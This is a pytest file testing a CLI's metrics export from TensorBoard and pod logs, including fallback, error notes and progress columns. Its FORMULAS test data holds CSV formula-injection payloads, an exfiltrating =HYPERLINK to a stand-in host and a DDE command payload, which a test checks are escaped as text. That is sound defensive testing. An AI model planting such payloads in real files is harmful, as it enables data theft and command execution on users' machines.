"""`rlark metrics` and `get jobs -o wide` PROGRESS against the sandbox, no Ray: a Job whose Header Pod has a
log with metric tables and a real TensorBoard on real event files; the fallback to the log with the fault
switch, and the bad inputs (missing tag, 502 answers, half a table) as one-line errors or notes."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from rlark_sandbox.demo_workload import metric_table
from rlark_tui.model import keys
from tests.clirun import cli_runner
from tests.clock import Clock, ticks
from tests.sandbox.helpers import forget_pod, job, task, tensorboard_pod

pytest.importorskip("tensorboardX")
pytestmark = pytest.mark.xdist_group("tensorboard-run")
"""One worker runs this file: the module's Job has a real TensorBoard, started at the first read of it (1 s of CPU,
3 s of wall), which each xdist worker running one of these tests started again, and charged to that test."""

CLUSTER, NS, JOB = "rlark-gpu-a", "rlark-system", "tb-run"
POD = f"{JOB}-main-0"
FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/?"&A2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", " +1+2",
            'time/-HYPERLINK("http://127.0.0.1:9/")')


def _table(step: int) -> str:
    return metric_table(step, 20, step * 1.0, {"rollout/rewards": step / 10, "train/actor/policy_loss": 1 / step})


@pytest.fixture(scope="module")
def run(bare_sandbox, tmp_path_factory):
    from tensorboardX import SummaryWriter
    from tensorboardX.proto.summary_pb2 import Summary
    sb = bare_sandbox
    logdir = tmp_path_factory.mktemp("tb-run") / "tensorboard"
    with SummaryWriter(str(logdir)) as writer:
        for step in range(1, 8):
            writer.add_scalar("rollout/rewards", step / 10, step)
            writer.add_scalar("train/actor/policy_loss", float("nan") if step == 3 else 1 / step, step)
            writer.add_scalar("time/step", 10.0, step)
            for tag in FORMULAS:  # as the Job's code may write them: tensorboardX's add_scalar would clean the tag
                writer.file_writer.add_summary(Summary(value=[Summary.Value(tag=tag, simple_value=5.0)]), step)
    spec = job(JOB)
    spec["spec"]["tasks"][0]["tensorBoardDir"] = str(logdir)
    spec["status"] = {"phase": "Running"}
    sb.store.create("jobs", spec)
    sb.store.create("tasks", task(f"{JOB}-main", CLUSTER, {keys.JOB_LABEL: JOB}))
    uid = tensorboard_pod(sb, f"{JOB}-main", POD, logdir)
    sb.store.create("pods", {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": POD, "namespace": NS},
                             "spec": {"nodeName": "gpu-a1", "containers": [{"name": "main", "image": "i@sha256:1"}]},
                             "status": {"phase": "Running"}}, plane=CLUSTER)
    sb.logs.start_instance(CLUSTER, NS, POD, "main")
    for step in range(1, 6):
        sb.logs.append(CLUSTER, NS, POD, "main", _table(step))
    yield sb
    forget_pod(sb, uid, POD)


@pytest.fixture
def rlark(run, capsys):
    return cli_runner(run.kubeconfig, capsys)


def test_json_from_tensorboard_with_growing_steps(rlark):
    result = rlark("metrics", JOB, "--format", "json")
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["job"] == JOB and data["source"] == "tensorboard"
    steps = [point[1] for point in data["series"]["rollout/rewards"]]
    assert steps == sorted(steps) and steps[-1] == 7
    loss = {point[1]: point[2] for point in data["series"]["train/actor/policy_loss"]}
    assert loss[2] == 0.5 and 3 in loss and loss[3] is None  # TensorBoard's "NaN": a point, null in JSON (never NaN)
    assert "NaN" not in result.out


def test_fallback_to_the_log_when_tensorboard_is_stopped(run, rlark):
    with run.faults.cleared() as faults:
        faults.stop_tensorboard(POD)
        result = rlark("metrics", JOB, "--format", "json")
        assert result.code == 0, result.err
        data = json.loads(result.out)
        assert data["source"] == "log"
        assert [p[1] for p in data["series"]["rollout/rewards"]] == [1, 2, 3, 4, 5]
        assert "502" in result.err  # the note says why
        forced = rlark("metrics", JOB, "--source", "tensorboard")
        assert forced.code == 1 and forced.out == ""
        assert forced.err.strip().count("\n") == 0 and "502" in forced.err


def test_table_and_csv_and_a_missing_tag(rlark):
    table = rlark("metrics", JOB, "--tag", "rollout/rewards")
    assert table.code == 0 and "source: tensorboard" in table.out and "rollout/rewards" in table.out
    csv = rlark("metrics", JOB, "--format", "csv", "--source", "log", "--tag", "rollout/rewards")
    assert csv.out.splitlines()[0] == "tag,wall_time,step,value" and len(csv.out.splitlines()) == 6
    missing = rlark("metrics", JOB, "--tag", "no/such")
    assert missing.code == 1 and missing.err.startswith("error: metrics: no tag no/such")
    assert "\n" not in missing.err.strip() and "Traceback" not in missing.err


def test_a_tag_a_spreadsheet_would_run_is_text_in_the_csv(rlark):
    """Issue 33, a sixteenth round (a CSV export someone opens in a spreadsheet): `rlark metrics -o csv` wrote the
    TensorBoard tags the Job's code names as they were, so `=HYPERLINK("http://…?"&A2,"open")` leading a cell was a
    formula that sent the sheet's cells away, and `@`, `+` and `-` lead one too; `--time` heads a column with each
    phase's name. Each such cell begins with `'` (sinks.csv_cell), which a spreadsheet reads as text."""
    import csv
    import io

    for argv in ((), ("--time",)):
        result = rlark("metrics", JOB, "--format", "csv", *argv)
        assert result.code == 0, result.err
        rows = list(csv.reader(io.StringIO(result.out)))
        text = [row[0] for row in rows[1:]] if not argv else rows[0]
        assert not [cell for cell in text if cell.lstrip(" ").startswith(("=", "+", "-", "@"))], text
        shown = {cell[1:] for cell in text if cell.startswith("'")}
        assert shown == {tag for tag in FORMULAS if not tag.startswith("time/")} if not argv else (
            [cell[:11] for cell in shown] == ["-HYPERLINK("]), shown


def test_half_a_table_is_a_note(run, rlark):
    run.logs.append(CLUSTER, NS, POD, "main", "\n".join(_table(6).splitlines()[:4]))
    result = rlark("metrics", JOB, "--source", "log", "--format", "json")
    assert result.code == 0 and "inside a metric table" in result.err
    assert [p[1] for p in json.loads(result.out)["series"]["rollout/rewards"]][-1] == 5


def test_get_wide_shows_progress(run, rlark):
    run.logs.append(CLUSTER, NS, POD, "main", _table(6), when=datetime.now(UTC))
    result = rlark("get", "jobs", "-o", "wide")
    assert result.code == 0
    header, *rows = result.out.splitlines()
    assert "PROGRESS" in header
    row = next(r for r in rows if r.startswith(JOB + " "))
    assert "6/20 30%" in row
    assert _column(header, row, "STEP TIME") == "-"  # no time/* rows yet


def test_get_wide_shows_the_step_time(run, rlark):
    """RLinf #777's step: 342 s, of which actor training 185 s (54 %), from the Header log's newest table."""
    times = {"time/step": 342.0, "time/actor_training": 185.0, "time/env_interact": 119.0,
             "time/generate_rollouts": 36.0}
    run.logs.append(CLUSTER, NS, POD, "main", metric_table(7, 20, 7 * 342.0, {"rollout/rewards": 0.7, **times}),
                    when=datetime.now(UTC))
    result = rlark("get", "jobs", "-o", "wide")
    assert result.code == 0, result.err
    header, *rows = result.out.splitlines()
    row = next(r for r in rows if r.startswith(JOB + " "))
    assert _column(header, row, "STEP TIME") == "342 s/step, actor_training 54%"
    assert _column(header, row, "PROGRESS").startswith("7/20 35%")


def test_get_wide_says_what_its_read_of_a_header_log_left_out(run, rlark, monkeypatch):
    """Issue 33, one way to read an input (a bound that is hit is said in one line, with the bound): `get jobs -o
    wide` reads each Running Job's Header log to metrics.PROGRESS_TAIL_BYTES (here 1 KiB, under the newest table's
    lines) and showed what it held as if it were the log, with no word of the lines it left out; rlark wait and
    rlark metrics say it. It says one line on stderr naming the Job and the bound, and prints the table."""
    from rlark_tui.cluster import metrics

    monkeypatch.setattr(metrics, "PROGRESS_TAIL_BYTES", 1024)
    result = rlark("get", "jobs", "-o", "wide")
    assert result.code == 0, result.err
    assert any(row.startswith(JOB + " ") for row in result.out.splitlines())
    said = [line for line in result.err.splitlines() if "left out" in line]
    assert len(said) == 1 and said[0].startswith(f"-- job {JOB}: PROGRESS and STEP TIME from its Header log: its last "
                                                 ), result.err
    assert said[0].endswith("before them left out, to hold at most 1 KiB (the read's bound)"), said


def _column(header: str, row: str, name: str) -> str:
    """The cell under `name` in a kubectl-style table (columns padded, three spaces apart)."""
    start = header.index(name)
    rest = header[start + len(name):]
    end = start + len(name) + (len(rest) - len(rest.lstrip())) if rest.strip() else len(row)
    return row[start:end].strip()


async def test_reconciler_reads_progress_and_metrics_when_subscribed(run, env):
    import asyncio
    import time

    from rlark_tui.cluster.access import ClusterAccess
    from rlark_tui.flow.polls import METRICS, PROGRESS
    from rlark_tui.flow.reconciler import Reconciler

    access = ClusterAccess.open(str(run.kubeconfig))
    reads = []
    pod_log = access.pod_log
    access.pod_log = lambda *a, **k: (reads.append(time.monotonic()), pod_log(*a, **k))[1]
    clock = Clock()
    reconciler = Reconciler(access, clock=clock)
    task = asyncio.create_task(reconciler.run(lambda _message: None))

    async def until(predicate, what: str) -> None:
        deadline = time.monotonic() + 30
        while not predicate():
            assert time.monotonic() < deadline, what
            await asyncio.sleep(0.05)

    try:
        await until(lambda: any(p.get("spec", {}).get("podName") == POD for p in reconciler.snapshot.pods.values()),
                    "the Header Pod CR in the Snapshot")
        reconciler.subscribe(PROGRESS, JOB)
        reconciler.subscribe(METRICS, JOB)
        await until(lambda: reconciler.snapshot.progress.get(JOB) is not None, "a progress result")
        await until(lambda: reconciler.snapshot.metrics.get(JOB) is not None, "a metrics result")
        state = reconciler.snapshot.progress[JOB]
        assert state.row is not None and state.row.total == 20 and state.row.step >= 5
        metrics = reconciler.snapshot.metrics[JOB]
        assert metrics.result.source == "tensorboard" and "rollout/rewards" in metrics.result.series
        first = len(reads)
        clock.now += 5.0  # metrics are due (every 5 s): from TensorBoard, they read no log
        await until(lambda: reconciler.snapshot.metrics[JOB] is not metrics, "the metrics read again")
        clock.now += 4.75
        await ticks(clock)
        assert len(reads) == first  # progress: one read per 10 s
    finally:
        reconciler.stop()
        await asyncio.wait_for(task, 10)
        access.close()
